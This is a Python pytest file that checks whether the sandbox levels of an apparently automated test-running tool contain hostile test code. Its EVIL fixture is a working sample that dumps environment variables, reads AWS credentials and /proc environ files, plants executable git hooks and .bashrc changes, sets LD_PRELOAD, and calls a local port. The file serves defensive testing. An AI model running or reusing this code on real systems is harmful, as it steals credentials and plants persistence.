"""A task whose tests are evil, for real and by level: they get nothing, and change nothing outside."""

import socket
import sys
from functools import partial
from pathlib import Path

import containers
import pytest
from errands import COMMANDS, QUIET, SEED, SHOP, TOOLS, Remote, Requests, Scripted, a_task, carry_out, walls_at
from test_tasks import PAYMENT_TESTS

from ftc.core.errors import UsageError

pytestmark = pytest.mark.slow


SECRET = "s3cret-of-the-job-0123456789"
FINE = "# pass 3\\n# fail 0"
GOOD = f"print('{FINE}')\n"
# Everything that it finds it says, so that it would be in the evidence; what it cannot do it leaves.
EVIL = """
import glob, os, pathlib, socket
print(dict(os.environ))
for place in ["HOME_OF_JOB/.aws/credentials", *glob.glob("/proc/[0-9]*/environ")]:
    try: print(open(place, errors="replace").read())
    except OSError: pass
here = pathlib.Path.cwd()
above = [str(up / "planted") for up in here.parents]
for place in [".git/hooks/post-checkout", "OUTSIDE/planted", "HOME_OF_JOB/.bashrc", *above]:
    try:
        if place.startswith(".git"): os.remove(".git"); os.makedirs(".git/hooks")
        pathlib.Path(place).write_text("#!/bin/sh\\ntouch OUTSIDE/hook-ran\\n")
        os.chmod(place, 0o755)
    except OSError: pass
for mirror in here.parent.glob("mirror.git"):
    (mirror / "hooks").mkdir(exist_ok=True)
    (mirror / "hooks/post-checkout").write_text("#!/bin/sh\\ntouch OUTSIDE/hook-ran\\n")
    (mirror / "hooks/post-checkout").chmod(0o755)
pathlib.Path(".env").write_text("LD_PRELOAD=evil.so")
pathlib.Path("src/a.py").write_text("A = 'evil'")
pathlib.Path("conftest.py").write_text("evil = 1")
try: socket.create_connection(("127.0.0.1", PORT), 2).send(b"found")
except OSError: pass
(pathlib.Path.home() / "left.txt").write_text("for the next measurement")
print("# pass 4\\n# fail 0")
"""
CONTAINERS = [pytest.param(program, marks=pytest.mark.toolchain) for program in containers.ENGINES]
LEVELS = [pytest.param(level, marks=pytest.mark.toolchain) for level in ("bubblewrap", "namespaces")]


class Job:
    """A job with a secret in its environment and its home, and a port on which nobody may call."""

    def __init__(self, folder):
        self.home, self.outside = folder / "runner", folder / "outside"
        for place in (self.home / ".aws", self.outside):
            place.mkdir(parents=True)
        (self.home / ".aws" / "credentials").write_text(SECRET)
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.setblocking(False)
        self.environ = {**TOOLS, "HOME": str(self.home), "GITHUB_TOKEN": SECRET, "MODEL_KEY": SECRET}
        self.remote = Remote(folder / "git", {**QUIET, "tests/run.py": GOOD})

    @property
    def evil(self):
        port = str(self.socket.getsockname()[1])
        code = EVIL.replace("HOME_OF_JOB", str(self.home)).replace("OUTSIDE", str(self.outside))
        return {"tests/run.py": code.replace("PORT", port)}

    @property
    def was_called(self):
        try:
            self.socket.accept()
        except BlockingIOError:
            return False
        return True

    def run(self, out, level, *answers, scripted=None, **over):
        task = a_task(quality_gates={"commands": {**COMMANDS, "test": f"{PYTHON} tests/run.py"}}, **over)
        try:
            walls_at(out, level, self.environ)
        except UsageError as error:
            pytest.skip(str(error))
        walls = partial(walls_at, level=level, environ=self.environ)
        return carry_out(task, self.remote, out, scripted or Scripted(*answers), walls=walls, publisher=Requests())


PYTHON = Path(sys.executable).name


@pytest.fixture
def job(tmp_path):
    made = Job(tmp_path)
    yield made
    made.socket.close()


def said(out):
    return "".join(path.read_text(errors="replace") for path in out.rglob("*") if path.is_file())


@pytest.fixture
def out(tmp_path):
    folder = tmp_path / "artifacts"
    folder.mkdir()
    return folder


@pytest.mark.parametrize("level", [*LEVELS, *CONTAINERS])
def test_evil_tests_get_nothing_and_change_nothing(job, out, level):
    outcome = job.run(out, level, job.evil, {"tests/more_test.py": "ok = 1\n"})
    assert (outcome.code, len(outcome.status.commits)) == (0, 2), said(out)
    assert outcome.status.tests_passed == 4, "they did run"
    assert SECRET not in said(out)
    assert not job.was_called
    assert list(job.outside.iterdir()) == []
    assert sorted(path.name for path in job.home.rglob("*")) == [".aws", "credentials"]
    assert [path.name for path in out.rglob("planted")] == []
    assert not (out / "quiet" / "work").exists()
    named = "container" if level in containers.ENGINES else level
    assert f"`{named}: isolated, without a network`" in (out / "quiet" / "pr.md").read_text()


@pytest.mark.parametrize("level", [*LEVELS, CONTAINERS[0]])
def test_what_evil_tests_say_holds_no_secret(job, out, level):
    [(path, code)] = job.evil.items()
    failing = {path: code + 'print("not ok 1 - sums")\nraise SystemExit(1)\n'}
    scripted = Scripted(failing, {"tests/more_test.py": "ok = 1\n"})
    assert job.run(out, level, scripted=scripted, target={"include": ["src/a.py"]}).code == 0
    feedback = scripted.asked[1][1]
    assert "'HOME'" in feedback, "they did look, and the next attempt was told what they found"
    assert SECRET not in feedback + said(out)


@pytest.mark.parametrize("level", [*LEVELS, CONTAINERS[0], "plain"])
def test_what_evil_tests_leave_in_the_worktree_is_not_delivered(job, out, level):
    outcome = job.run(out, level, job.evil, {"tests/more_test.py": "ok = 1\n"})
    [_, second] = outcome.status.commits
    branch = job.remote.branches["auto/quiet"]
    assert branch == second
    changed = job.remote.names("auto/quiet")
    assert changed == ["tests/more_test.py", "tests/run.py"]
    assert not (job.outside / "hook-ran").exists()


def test_at_the_plain_level_the_request_says_what_does_not_hold(job, out):
    job.run(out, "plain", {"tests/more_test.py": "ok = 1\n"}, target={"include": ["src/a.py"]})
    text = (out / "quiet" / "pr.md").read_text()
    assert "`plain: it can reach the network; it can read and write whatever the user of the job can" in text


@pytest.mark.parametrize("level", LEVELS)
def test_the_real_tools_of_python_work_apart(tmp_path, out, level):
    try:
        walls_at(out, level)
    except UsageError as error:
        pytest.skip(str(error))
    task = a_task(SEED.read_text())
    remote, scripted = Remote(tmp_path / "git", SHOP), Scripted({"tests/test_payment.py": PAYMENT_TESTS})
    outcome = carry_out(task, remote, out, scripted, walls=partial(walls_at, level=level))
    assert outcome.code == 0, said(out)
    assert (outcome.status.lint_errors, outcome.status.type_errors, outcome.status.tests_failed) == (0, 0, 0)
    assert outcome.status.coverage_after > outcome.status.coverage_before


LEAVES = """
import pathlib
seen = (pathlib.Path.home() / "left").exists()
(pathlib.Path.home() / "left").mkdir()
(pathlib.Path.home() / "left").chmod(0)
print("# pass 3\\n# fail " + ("1\\nnot ok 1 - seen" if seen else "0"))
"""


def test_no_measurement_finds_what_another_left_in_its_home(job, out):
    job.remote.commit({"tests/run.py": LEAVES})
    outcome = job.run(out, "plain", {"tests/more_test.py": "ok = 1\n"}, target={"include": ["src/a.py"]})
    assert (outcome.code, outcome.status.tests_failed) == (0, 0)


def test_a_level_that_is_not_there_is_said_and_nothing_is_begun(job, out, monkeypatch):
    without = {**job.environ, "PATH": str(out)}
    walls = partial(walls_at, level="container", environ=without)
    with pytest.raises(UsageError, match="no sandbox of the level `container` works here"):
        carry_out(a_task(), job.remote, out, Scripted(), walls=walls)
    assert not (out / "quiet" / "work").exists()
    assert not (out / "quiet" / "status.json").exists()


def test_the_set_up_script_runs_once_and_what_it_leaves_is_there(job, out):
    script = "echo set up >>$HOME/ready; [ $(wc -l <$HOME/ready) = 1 ]\n"
    uses = (
        "import pathlib\nprint('# pass', len((pathlib.Path.home() / 'ready').read_text().split()))\nprint('# fail 0')\n"
    )
    job.remote.commit({"ci/setup.sh": script, "tests/run.py": uses})
    task = a_task(quality_gates={"commands": {**COMMANDS, "test": f"{PYTHON} tests/run.py"}})
    walls = partial(walls_at, script="ci/setup.sh")
    scripted = Scripted({"tests/more_test.py": "ok = 1\n"}, {"tests/even_more_test.py": "ok = 1\n"})
    outcome = carry_out(task, job.remote, out, scripted, walls=walls)
    assert (outcome.code, outcome.status.tests_passed) == (0, 2), said(out)


def test_a_set_up_script_that_fails_fails_the_task(job, out):
    job.remote.commit({"ci/setup.sh": "echo no such mirror >&2; exit 3\n"})
    walls = partial(walls_at, script="ci/setup.sh")
    outcome = carry_out(a_task(), job.remote, out, Scripted(), walls=walls)
    assert (outcome.code, outcome.failure.code) == (1, "CommandFailed")
    assert "ended with 3: no such mirror" in outcome.failure.summary
